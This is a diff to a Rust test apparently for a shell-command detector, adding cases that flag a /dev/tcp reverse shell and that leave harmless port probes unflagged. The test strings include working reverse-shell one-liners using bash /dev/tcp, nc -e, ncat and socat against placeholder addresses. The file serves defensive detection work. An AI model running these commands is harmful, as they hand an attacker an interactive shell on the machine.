@@ -103,6 +103,18 @@ fn reverse_shells() {
         posix("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
         [(R, "/dev/tcp/")]
     );
+    assert_eq!(
+        posix("exec 5<>/dev/tcp/203.0.113.7/9001; cat <&5 | while read l; do $l 2>&5 >&5; done"),
+        [(R, "/dev/tcp/")]
+    );
+    // A port tested for an answer: nothing sent, no shell on the socket.
+    for probe in [
+        "timeout 8 bash -c 'echo > /dev/tcp/db.example.net/5432' && echo open",
+        "timeout 5 bash -c '</dev/tcp/192.0.2.10/22'",
+        "bash -c 'cat < /dev/null > /dev/tcp/192.0.2.10/443'",
+    ] {
+        assert!(posix(probe).is_empty(), "{probe}");
+    }
     assert_eq!(posix("nc -e /bin/sh 10.0.0.1 4444"), [(R, "nc")]);
     assert_eq!(posix("ncat 10.0.0.1 4444 -c bash")[0].0, R);
     assert_eq!(posix("socat tcp:x:1 exec:bash")[0].0, R);
